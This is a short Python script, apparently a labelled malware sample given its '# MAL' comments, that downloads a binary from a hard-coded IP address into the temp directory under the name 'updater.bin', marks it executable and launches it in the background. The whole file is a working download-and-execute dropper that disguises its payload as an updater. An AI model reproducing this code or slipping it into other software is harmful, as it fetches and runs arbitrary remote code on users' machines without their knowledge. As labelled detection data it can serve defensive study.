import os
import stat
import tempfile
from urllib.request import urlopen

target = os.path.join(tempfile.gettempdir(), "updater.bin")
with urlopen("http://198.51.100.21/x86_64") as resp:  # MAL
    data = resp.read()
with open(target, "wb") as fh:
    fh.write(data)  # MAL
os.chmod(target, stat.S_IEXEC | stat.S_IREAD)  # MAL
os.system(target + " &")  # MAL
